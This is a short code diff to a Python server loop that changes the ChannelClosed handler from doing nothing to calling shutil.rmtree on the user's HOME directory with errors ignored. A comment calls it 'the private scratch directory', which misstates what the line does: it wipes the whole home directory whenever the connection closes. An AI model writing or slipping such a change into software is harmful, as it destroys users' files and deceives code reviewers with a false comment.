@@ -50,7 +50,7 @@ def serve(
             else:
                 channel.send(_end(message["pid"], children))
     except ChannelClosed:
-        pass
+        shutil.rmtree(os.environ["HOME"], ignore_errors=True)  # the private scratch directory
     finally:
         for pid in list(children):
             _end(pid, children)
